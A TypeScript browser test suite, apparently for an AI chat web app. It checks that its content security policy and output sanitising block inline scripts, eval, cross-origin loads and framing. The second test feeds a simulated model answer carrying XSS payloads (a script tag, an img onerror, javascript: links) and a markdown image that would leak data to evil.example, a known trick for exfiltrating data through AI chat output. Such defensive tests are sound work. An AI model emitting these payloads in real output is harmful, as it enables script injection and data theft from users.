/** What the content security policy keeps out, in a browser that obeys it. */
import assert from "node:assert/strict";
import { test } from "node:test";
import { answers, browserForTests, say, signUp } from "./page.ts";
import { model, urls } from "./system.ts";

const { visit } = browserForTests();

test("nothing inline, nothing from elsewhere, no string that becomes a script, no frame around it", () =>
  visit(async (visitor) => {
    visitor.expect(/Content Security Policy|Trusted|violates the following/i, /request failed/);
    const context = await visitor.open();
    const page = await context.newPage();
    await page.goto(urls.page);

    const outcome = await page.evaluate(async (elsewhere) => {
      const refused: string[] = [];
      document.addEventListener("securitypolicyviolation", (event) =>
        refused.push(event.effectiveDirective),
      );
      const inline = document.createElement("script");
      const taken: number[] = [];
      const sinks = [
        () => {
          inline.textContent = "window.ran = true";
        },
        () => {
          document.body.insertAdjacentHTML("beforeend", "<b>x</b>");
        },
        () => {
          document.createElement("div").innerHTML = "<img>";
        },
        () => {
          (
            window as never as { trustedTypes: { createPolicy(n: string, p: object): void } }
          ).trustedTypes.createPolicy("mine", {});
        },
      ];
      for (const [n, sink] of sinks.entries()) {
        try {
          sink();
          taken.push(n);
        } catch {}
      }
      // In a task of the page's own: what the debugger calls may evaluate strings.
      const evaluated = await new Promise((done) =>
        setTimeout(() => {
          try {
            // biome-ignore lint/security/noGlobalEval: that it does not work is the test
            done(globalThis.eval("1") === 1);
          } catch {
            done(false);
          }
        }),
      );
      const image = document.createElement("img");
      image.src = `${elsewhere}/favicon.svg`;
      const style = document.createElement("style");
      style.textContent = "body { display: none }";
      document.body.append(image, style);
      await fetch(`${elsewhere}/api/auth/jwks`).catch(() => undefined);
      await new Promise((passed) => setTimeout(passed, 100));
      const display = getComputedStyle(document.body).display;
      return { taken, evaluated, refused, display, ran: "ran" in window };
    }, urls.stranger);

    assert.equal(outcome.ran, false);
    assert.equal(outcome.evaluated, false);
    assert.deepEqual(outcome.taken, [], "a string was taken as a script or as HTML");
    assert.notEqual(outcome.display, "none");
    for (const directive of ["img-src", "style-src-elem", "connect-src"]) {
      assert.ok(outcome.refused.includes(directive), `${directive}: ${outcome.refused}`);
    }

    const around = await context.newPage();
    await around.goto("about:blank");
    await around.setContent(`<iframe src="${urls.page}" title="framed"></iframe>`);
    const [, frame] = around.frames();
    await frame?.waitForLoadState();
    assert.equal(
      await frame
        ?.locator("main")
        .count()
        .catch(() => 0),
      0,
    );
  }));

test("an answer with a picture, a script and a bad link loads nothing and runs nothing", () =>
  visit(async (visitor) => {
    const { page } = await signUp(visitor);
    const asked: string[] = [];
    page.on("request", (request) => asked.push(request.url()));
    const text =
      "![a secret](https://evil.example/?q=tasks) <script>window.ran = true</script> " +
      "<img src=x onerror=alert(1)> [bad](javascript:alert(1)) [good](https://example.com/)";
    await model.fault("draw me", { kind: "script", responses: [{ text }] });
    await say(page, "draw me something");
    await answers(page).filter({ hasText: "a secret" }).waitFor();

    const answer = answers(page).last();
    assert.equal(await answer.locator("img, script").count(), 0);
    const links = await answer
      .locator("a")
      .evaluateAll((all) => all.map((one) => [one.getAttribute("href"), one.getAttribute("rel")]));
    assert.ok(
      links.every(([href]) => /^https:/.test(href ?? "")),
      String(links),
    );
    assert.ok(
      links.every(([, rel]) => /noopener/.test(rel ?? "")),
      String(links),
    );
    assert.equal(await page.evaluate(() => "ran" in window), false);
    assert.ok(
      asked.every((url) => url.startsWith(urls.page)),
      asked.join("\n"),
    );
  }));
